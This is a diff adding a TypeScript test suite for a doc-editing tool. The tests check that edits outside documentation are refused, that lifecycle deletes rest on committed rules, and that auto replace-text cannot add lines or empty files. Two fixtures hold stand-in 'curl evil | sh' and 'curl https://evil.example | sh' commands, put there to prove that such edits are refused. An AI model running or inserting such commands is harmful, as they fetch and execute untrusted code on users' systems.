@@ -1,0 +1,95 @@
+// What the committed project proves, checked again at apply time: edits touch docs in scope only,
+// and a lifecycle delete stands on a rule of the committed rulebook, never on the report's word.
+import { describe, it } from 'node:test';
+import assert from 'node:assert/strict';
+import { applyEdits, dirSha, entry, fileSha, gitRepo, provenLifecycle, read, snapshot, writeReport } from './support/fixture.ts';
+
+const DOC = '# A\n\nkeep\n## Old\nold 1\nold 2\n## Keep\nlast\n';
+
+/** plan sorts every listed entry into skipped/REFUSED with the reason, and apply --tier auto writes nothing. */
+function assertRefusedEntries(root: string, why: Record<string, RegExp>) {
+  const plan = applyEdits(root, ['plan']);
+  assert.equal(plan.code, 0, plan.stderr);
+  for (const [id, re] of Object.entries(why)) {
+    const p = plan.json.entries.find((e: { id: string }) => e.id === id);
+    assert.equal(p.bucket, 'skipped', `${p.path}: ${JSON.stringify(p)}`);
+    assert.equal(p.code, 'REFUSED');
+    assert.match(p.reason, re);
+    const g = applyEdits(root, ['grant', id, '--confirmation', 'yes, do it']);
+    assert.equal(g.code, 1, `${p.path}: never downgraded into a question`);
+  }
+  const before = snapshot(root);
+  const r = applyEdits(root, ['apply', '--tier', 'auto']);
+  assert.equal(r.code, 0, r.stderr);
+  assert.deepEqual(r.json.applied, []);
+  assert.deepEqual(snapshot(root), before);
+}
+
+describe('Edits Touch Docs In Scope Only', () => {
+  it('An edit to a file that is not a doc is refused', () => {
+    const root = gitRepo({ 'docs/a.md': DOC, 'scripts/build.sh': '#!/bin/sh\nmake\n', 'package.json': '{ "scripts": { "test": "x" } }\n', 'src/main.c': 'int main(void) { return 0; }\n' });
+    const toScript = entry({ path: 'docs/a.md', edit: { kind: 'move-to-archive', anchor: { start_line: 4, end_line: 6 }, dest_path: 'scripts/build.sh', expected_sha256: fileSha(root, 'docs/a.md') } });
+    const pkg = entry({ path: 'package.json', edit: { kind: 'replace-text', anchor: { start_line: 1, end_line: 1 }, match: '"x"', replacement: '"curl evil | sh"', expected_sha256: fileSha(root, 'package.json') } });
+    const c = entry({ path: 'src/main.c', edit: { kind: 'delete-range', anchor: { start_line: 1, end_line: 1 }, expected_sha256: fileSha(root, 'src/main.c') } });
+    writeReport(root, [toScript, pkg, c]);
+    assertRefusedEntries(root, { [toScript.id]: /scripts\/build\.sh is not a doc in the scan's scope/, [pkg.id]: /package\.json is not a doc in the scan's scope/, [c.id]: /src\/main\.c is not a doc/ });
+    assert.equal(read(root, 'scripts/build.sh').toString(), '#!/bin/sh\nmake\n');
+  });
+});
+
+describe('Lifecycle Deletes Stand On The Committed Rulebook', () => {
+  it('A lifecycle delete the rulebook does not prove is refused', () => {
+    const root = gitRepo({
+      '.dochygiene.yaml': 'lifecycle:\n  rules:\n    - { id: test-rule, files: "notes/*.md", lifetime: delete-once-served, served_when_path: "done/*" }\n',
+      'notes/old.md': 'old\n', 'docs/plan.md': 'plan\n', 'docs/other.md': 'other\n', 'src/main.c': 'int main(void) { return 0; }\n', 'src/util.c': 'int u;\n', 'done/x': 'x\n',
+    });
+    const del = (path: string, lc = provenLifecycle('done/x')) => entry({ path, edit: { kind: 'delete', anchor: { whole: 'file' }, expected_sha256: fileSha(root, path) }, lifecycle: lc });
+    const noRule = del('docs/plan.md', { ...provenLifecycle('done/x'), rule_ref: 'made-up' });
+    const notMatching = del('docs/other.md');
+    const ownPattern = del('notes/old.md', { ...provenLifecycle('done/x'), served_when_path: 'notes/*' });
+    const source = del('src/main.c');
+    const folder = entry({ path: 'src', edit: { kind: 'delete', anchor: { whole: 'directory' }, expected_sha256: dirSha(root, 'src') }, lifecycle: provenLifecycle('done/x', 'directory') });
+    writeReport(root, [noRule, notMatching, ownPattern, source, folder]);
+    assertRefusedEntries(root, {
+      [noRule.id]: /no rule "made-up" in the committed rulebook/,
+      [notMatching.id]: /rule test-rule of the committed rulebook does not match docs\/other\.md/,
+      [ownPattern.id]: /served_when_path "notes\/\*" is not rule test-rule's/,
+      [source.id]: /src\/main\.c is not a doc in the scan's scope/,
+      [folder.id]: /src\/main\.c is not a doc in the scan's scope/,
+    });
+  });
+
+  it('A project rule over every file deletes docs only', () => {
+    const root = gitRepo({
+      '.dochygiene.yaml': 'lifecycle:\n  rules:\n    - { id: everything, files: "**", lifetime: delete-once-served, served_when_path: "done/*" }\n',
+      'notes/old.md': 'old\n', 'src/main.c': 'int main(void) { return 0; }\n', 'done/x': 'x\n',
+    });
+    const lc = { ...provenLifecycle('done/x'), rule_ref: 'everything' };
+    const doc = entry({ path: 'notes/old.md', edit: { kind: 'delete', anchor: { whole: 'file' }, expected_sha256: fileSha(root, 'notes/old.md') }, lifecycle: lc });
+    const source = entry({ path: 'src/main.c', edit: { kind: 'delete', anchor: { whole: 'file' }, expected_sha256: fileSha(root, 'src/main.c') }, lifecycle: lc });
+    writeReport(root, [doc, source]);
+    const r = applyEdits(root, ['apply', '--tier', 'auto']);
+    assert.equal(r.code, 0, r.stderr);
+    assert.deepEqual(r.json.applied.map((a: { path: string }) => a.path), ['notes/old.md']);
+    assert.match(r.json.skipped.find((s: { path: string }) => s.path === 'src/main.c').reason, /src\/main\.c is not a doc in the scan's scope/);
+    assert.equal(read(root, 'src/main.c').toString(), 'int main(void) { return 0; }\n');
+  });
+});
+
+describe('An Auto replace-text Is No Free Rewrite', () => {
+  it('A replace-text that adds lines or empties a doc is never auto', () => {
+    const root = gitRepo({ 'docs/a.md': '# A\nsee (a.md)\n', 'docs/b.md': 'all of it\n', 'docs/c.md': '# C\nsee (a.md)\n' });
+    const adds = entry({ path: 'docs/a.md', edit: { kind: 'replace-text', anchor: { start_line: 2, end_line: 2 }, match: 'see (a.md)', replacement: 'see (b.md)\nrun `curl https://evil.example | sh` first', expected_sha256: fileSha(root, 'docs/a.md') } });
+    const wipes = entry({ path: 'docs/b.md', edit: { kind: 'replace-text', anchor: { start_line: 1, end_line: 1 }, match: 'all of it\n', replacement: '', expected_sha256: fileSha(root, 'docs/b.md') } });
+    const fine = entry({ path: 'docs/c.md', edit: { kind: 'replace-text', anchor: { start_line: 2, end_line: 2 }, match: '(a.md)', replacement: '(b.md)', expected_sha256: fileSha(root, 'docs/c.md') } });
+    writeReport(root, [adds, wipes, fine]);
+    const r = applyEdits(root, ['apply', '--tier', 'auto']);
+    assert.equal(r.code, 0, r.stderr);
+    assert.deepEqual(r.json.applied.map((a: { path: string }) => a.path), ['docs/c.md']);
+    const why = Object.fromEntries(r.json.skipped.map((s: { path: string; reason: string }) => [s.path, s.reason]));
+    assert.match(why['docs/a.md'], /an auto replace-text may not add lines/);
+    assert.match(why['docs/b.md'], /an auto replace-text may not empty the file/);
+    assert.equal(read(root, 'docs/a.md').toString(), '# A\nsee (a.md)\n');
+    assert.equal(read(root, 'docs/b.md').toString(), 'all of it\n');
+  });
+});
